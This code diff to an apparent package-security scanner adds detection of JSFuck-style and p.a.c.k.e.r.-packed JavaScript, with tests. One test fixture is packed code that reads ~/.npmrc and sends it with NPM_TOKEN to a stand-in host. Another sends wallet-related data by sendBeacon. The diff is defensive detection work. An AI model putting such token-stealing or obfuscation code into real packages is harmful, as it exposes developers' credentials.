@@ -7,6 +7,8 @@ use crate::rules::{Emitter, is_doc_path};
 crate::declare_rule! {
     /// javascript-obfuscator and similar tools' signatures: families of `_0x…` identifiers, a
     /// rotated string array (`push(shift())` in a `while (!![])` loop), dense `\x`/`\u` escapes.
+    /// JSFuck-style character picks (`(![]+[])[+[]]`) and p.a.c.k.e.r. output whose word table
+    /// names two or more sensitive APIs count too (a packed date widget does not).
     /// Minified code is not obfuscated (see `minified-source`). `critical` when obfuscated code is
     /// spliced into readable code in a file that runs on install or import (an injected payload),
     /// or when its string table names two or more sensitive APIs (child_process, wallet
@@ -48,6 +50,16 @@ pub fn score(f: &FileCtx) -> (u32, Vec<String>) {
     if rot.is_match(text) {
         score += 40;
         why.push("rotated string array".into());
+    }
+    // JSFuck-style spelling: characters picked out of `false`, `true`, `undefined` and
+    // `[object Object]` (`(![]+[])[+[]]` is "f") to build names like "constructor".
+    let jsf = ["(![]+[])", "(!![]+[])", "([][[]]+[])", "([]+{})"]
+        .iter()
+        .map(|k| memchr::memmem::find_iter(text.as_bytes(), k.as_bytes()).count())
+        .sum::<usize>();
+    if jsf >= 8 {
+        score += 60;
+        why.push(format!("{jsf} JSFuck-style character picks"));
     }
     if text.len() > 2000 {
         let escapes = memchr::memmem::find_iter(text.as_bytes(), b"\\x").count()
@@ -110,7 +122,23 @@ fn hidden_apis(f: &FileCtx) -> Vec<&'static str> {
         .captures_iter(&f.text)
         .take(50_000)
         .filter_map(|c| c.get(1).or_else(|| c.get(2)).map(|m| m.as_str()));
-    let derived = js.derived.iter().take(20_000).map(|(d, _)| d.as_str());
+    // A p.a.c.k.e.r. word table (`'fs|os|readFileSync|…'.split('|')`) lists every identifier.
+    let table = crate::regex!(r#"'([\w$|]+)'\.split\('\|'\)"#);
+    let words: Vec<&str> = if is_packed(&f.text) {
+        table
+            .captures_iter(&f.text)
+            .take(4)
+            .flat_map(|c| c.get(1).map_or("", |m| m.as_str()).split('|'))
+            .collect()
+    } else {
+        Vec::new()
+    };
+    let derived = js
+        .derived
+        .iter()
+        .take(20_000)
+        .map(|(d, _)| d.as_str())
+        .chain(words);
     for d in derived.chain(literals) {
         note(d);
         if d.len() >= 4
@@ -123,12 +151,24 @@ fn hidden_apis(f: &FileCtx) -> Vec<&'static str> {
     found
 }
 
+/// Dean Edwards' p.a.c.k.e.r.: `eval(function(p,a,c,k,e,d){…}('…',36,N,'w1|w2|…'.split('|'),0,{}))`.
+fn is_packed(text: &str) -> bool {
+    crate::regex!(r"eval\(\s*function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e\s*,\s*[dr]\s*\)")
+        .is_match(text)
+}
+
 fn check(pkg: &Package, out: &mut Emitter) {
     for f in pkg.files.iter().filter(|f| f.is_js()) {
         if is_doc_path(&f.path) {
             continue;
         }
-        let (s, why) = score(f);
+        let (mut s, mut why) = score(f);
+        // Packed code is common in old browser plugins; it counts as obfuscation only when its
+        // word table names sensitive APIs (what a payload needs, not what a date widget needs).
+        if s < 50 && is_packed(&f.text) && hidden_apis(f).len() >= 2 {
+            s = 50;
+            why.push("p.a.c.k.e.r. word table".into());
+        }
         if s < 50 {
             continue;
         }
@@ -179,6 +219,54 @@ mod hidden_api_tests {
     // `stringArrayEncoding: base64`) names wallet and beacon APIs.
     const HIDING: &str = "var _0x1a2b=['ZXRoZXJldW0=','cmVxdWVzdA==','c2VuZEJlYWNvbg=='];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));var _0x2b3c=function(_0x4d5e,_0x6f7a){_0x4d5e=_0x4d5e-0x0;var _0x8b9c=atob(_0x1a2b[_0x4d5e]);return _0x8b9c;};var _0xa1b2=window[_0x2b3c('0x0')];var _0xc3d4=_0x2b3c('0x1');navigator[_0x2b3c('0x2')]('u',_0xa1b2[_0xc3d4]);function _0xe5f6(_0x1111,_0x2222,_0x3333){return _0x1111+_0x2222+_0x3333;}_0xe5f6(_0xa1b2,_0xc3d4,_0x1a2b);var _0x1112=0,_0x1113=1,_0x1114=2,_0x1115=3,_0x1116=4,_0x1117=5;";
     const PLAIN: &str = "var _0x1a2b=['log','hello'];(function(_0x3c4d,_0x5e6f){var _0x7a8b=function(_0x9c0d){while(--_0x9c0d){_0x3c4d['push'](_0x3c4d['shift']());}};_0x7a8b(++_0x5e6f);}(_0x1a2b,0x1f4));var _0x2b3c=function(_0x4d5e,_0x6f7a){_0x4d5e=_0x4d5e-0x0;var _0x8b9c=_0x1a2b[_0x4d5e];return _0x8b9c;};var _0xa1b2=_0x2b3c('0x0');var _0xc3d4=_0x2b3c('0x1');console[_0xa1b2](_0xc3d4);function _0xe5f6(_0x1111,_0x2222,_0x3333){return _0x1111+_0x2222+_0x3333;}_0xe5f6(_0xa1b2,_0xc3d4,_0x1a2b);";
+
+    fn packed(inner: &str) -> String {
+        let mut words: Vec<&str> = Vec::new();
+        for w in inner.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')) {
+            if !w.is_empty() && !words.contains(&w) {
+                words.push(w);
+            }
+        }
+        format!(
+            "eval(function(p,a,c,k,e,d){{e=function(c){{return c.toString(36)}};while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}}}return p}}('0 1',36,{},'{}'.split('|'),0,{{}}))",
+            words.len(),
+            words.join("|")
+        )
+    }
+
+    #[test]
+    fn packed_code_whose_word_table_names_sensitive_apis_is_obfuscated() {
+        let src = packed(
+            "var t=require('fs').readFileSync(require('os').homedir()+'/.npmrc');require('https').request({host:'h'}).end(t+process.env.NPM_TOKEN)",
+        );
+        let hits = run(&super::RULE, "index.js", &src);
+        assert!(
+            hits.iter()
+                .any(|h| h.severity == Severity::Critical && h.message.contains("p.a.c.k.e.r.")),
+            "{hits:?}"
+        );
+    }
+
+    #[test]
+    fn packed_date_widget_is_not_obfuscated() {
+        let src = packed(
+            "(function($){$.fn.ago=function(){return this.each(function(){var s=Math.round((Date.now()-new Date($(this).attr('datetime')))/1000);$(this).text(s+' seconds ago')})}})(jQuery);",
+        );
+        let hits = run(&super::RULE, "index.js", &src);
+        assert!(hits.is_empty(), "{hits:?}");
+    }
+
+    #[test]
+    fn jsfuck_character_picks_are_obfuscation() {
+        let src = "module.exports = 1;\n[][(![]+[])[+[]]+([][[]]+[])[!+[]+!+[]+!+[]+!+[]+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+!+[]]][([]+{})[!+[]+!+[]+!+[]+!+[]+!+[]]+([]+{})[+!+[]]+([][[]]+[])[+!+[]]+(![]+[])[!+[]+!+[]+!+[]]+(!![]+[])[+[]]+(!![]+[])[+!+[]]+([][[]]+[])[+[]]+([]+{})[!+[]+!+[]+!+[]+!+[]+!+[]]+(!![]+[])[+[]]+([]+{})[+!+[]]+(!![]+[])[+!+[]]]('x')()";
+        let hits = run(&super::RULE, "index.js", src);
+        assert!(
+            hits.iter().any(|h| h.message.contains("JSFuck")),
+            "{hits:?}"
+        );
+        let plain = "const ok = !![] && (a + []).length > 0; const f = (![] + []);";
+        assert!(run(&super::RULE, "index.js", plain).is_empty());
+    }
 
     #[test]
     fn critical_when_the_string_table_names_sensitive_apis() {
